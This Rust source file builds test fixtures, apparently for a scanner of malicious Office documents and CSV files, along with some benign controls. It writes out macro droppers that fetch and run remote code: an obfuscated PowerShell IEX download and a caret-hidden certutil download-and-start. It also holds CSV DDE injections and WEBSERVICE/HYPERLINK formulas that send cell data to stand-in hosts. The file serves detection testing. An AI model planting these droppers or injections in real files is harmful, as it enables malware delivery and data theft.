//! Command lines in macros and in formulas, and the queries that fetch them. Everything is inert: hosts do not exist,
//! and what would be started prints a line.

use super::Fixture;
use super::ooxml::Package;
use super::vba::{Module, vba_project};

/// Base64 (RFC 4648, 4).
fn base64(bytes: &[u8]) -> String {
    const LETTERS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let bits = chunk.iter().fold(0_u32, |bits, byte| (bits << 8) | u32::from(*byte)) << (8 * (3 - chunk.len()));
        for place in 0..4 {
            let letter = LETTERS[(bits >> (18 - 6 * place)) as usize & 63];
            out.push(if place <= chunk.len() { char::from(letter) } else { '=' });
        }
    }
    out
}

fn utf_16(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

fn with_mark(text: &str) -> Vec<u8> {
    utf_16(&format!("\u{FEFF}{text}"))
}

/// PowerShell's `-EncodedCommand`, in pieces that `&` joins.
fn encoded_macro() -> String {
    let script = "IEX (New-Object Net.WebClient).DownloadString('http://updates.invalid/a.ps1')";
    let coded = base64(&utf_16(script));
    let pieces: Vec<String> =
        coded.as_bytes().chunks(60).map(|p| format!("\"{}\"", String::from_utf8_lossy(p))).collect();
    format!(
        "Sub AutoOpen()\n    Dim s As String\n    s = {}\n    Shell \"powershell -nop -w hidden -enc \" & s, 0\nEnd Sub",
        pieces.join("\n    s = s & ")
    )
}

/// cmd.exe with letters parted by carets and a name cut out of a variable.
const CARETS: &str = "Private Sub Workbook_Open()\n    CreateObject(\"WScript.Shell\").Run \"%COMSPEC% /c c^er^tut^il -url^cache -f \" & _\n        \"http://updates.invalid/a.txt %TEMP%\\a.exe & st^art %TEMP%\\a.exe\", 0\nEnd Sub";

const ODC: &str = "<html xmlns:o=\"urn:schemas-microsoft-com:office:office\">\r\n<head>\r\n<meta http-equiv=Content-Type content=\"text/x-ms-odc; charset=utf-8\">\r\n<meta name=ProgId content=ODC.Table>\r\n<xml id=msodc><odc:OfficeDataConnection xmlns:odc=\"urn:schemas-microsoft-com:office:odc\">\r\n  <odc:Connection odc:Type=\"OLEDB\">\r\n    <odc:ConnectionString>Provider=SQLOLEDB.1;Integrated Security=SSPI;Data Source=db.intra.example;Initial Catalog=&quot;Sales&quot;</odc:ConnectionString>\r\n    <odc:CommandType>Table</odc:CommandType>\r\n    <odc:CommandText>&quot;Sales&quot;.&quot;dbo&quot;.&quot;Orders&quot;</odc:CommandText>\r\n  </odc:Connection>\r\n</odc:OfficeDataConnection></xml>\r\n</head>\r\n</html>\r\n";

pub(crate) fn fixtures() -> Vec<Fixture> {
    let encoded = vba_project(&[Module::document("ThisDocument", ""), Module::standard("Module1", &encoded_macro())]);
    let carets = vba_project(&[Module::document("ThisWorkbook", CARETS)]);
    let mut fixtures = vec![
        Fixture::new("commands-encoded", "report.docm", Package::word(true).macros(&encoded).build()),
        Fixture::new("commands-carets", "prices.xlsm", Package::excel(true).macros(&carets).build()),
    ];
    let rows: [(&'static str, &'static str, Vec<u8>); 9] = [
        (
            "csv-dde-spaced",
            "list.csv",
            b"name;phone\r\nA;-2+3+cmd|' /C certutil -urlcache -f http://a.invalid/a a.exe'!D2\r\n".to_vec(),
        ),
        ("csv-dde-utf-16", "list.tsv", with_mark("name\tprice\r\nA\t@SUM(1+1)*cmd|' /C rem inert'!A0\r\n")),
        (
            "csv-dde-wide",
            "一覧.csv",
            encoding_rs::SHIFT_JIS.encode("品名,価格\r\nりんご,＝cmd|'/C rem inert'!A0\r\n").0.into_owned(),
        ),
        (
            "csv-webservice",
            "list.csv",
            b"name,price\r\nA,\"=WEBSERVICE(\"\"https://a.invalid/?x=\"\"&A1)\"\r\n".to_vec(),
        ),
        (
            "csv-link-of-cells",
            "list.csv",
            b"name,price\r\nA,\"=HYPERLINK(\"\"https://a.invalid/?x=\"\"&A1&B1,\"\"details\"\")\"\r\n".to_vec(),
        ),
        ("query-iqy-share", "prices.iqy", b"WEB\n1\n\\\\host.invalid@SSL\\share\\a.htm\n\nSelection=1\n".to_vec()),
        ("query-iqy-local", "prices.iqy", b"WEB\r\n1\r\nC:\\reports\\prices.htm\r\n".to_vec()),
        ("query-odc", "orders.odc", ODC.as_bytes().to_vec()),
        ("query-dqy", "orders.dqy", b"XLODBC\r\n1\r\nDSN=Sales;UID=reader;\r\nSELECT * FROM Orders\r\n".to_vec()),
    ];
    fixtures.extend(rows.into_iter().map(|(id, file, bytes)| Fixture::new(id, file, bytes)));
    fixtures.push(
        Fixture::new(
            "csv-honest-formulas",
            "totals.csv",
            "品名,数量,電話,備考\r\nりんご,-5,+81-3-0000-0000,- 税込 | 送料別!\r\n計,=SUM(B2:B9),@handle,\"=HYPERLINK(\"\"https://www.example/5\"\",\"\"5\"\")\"\r\n,=A1+B1,=IF(B2>0|1),\r\n".into(),
        )
        .honest(),
    );
    fixtures
}
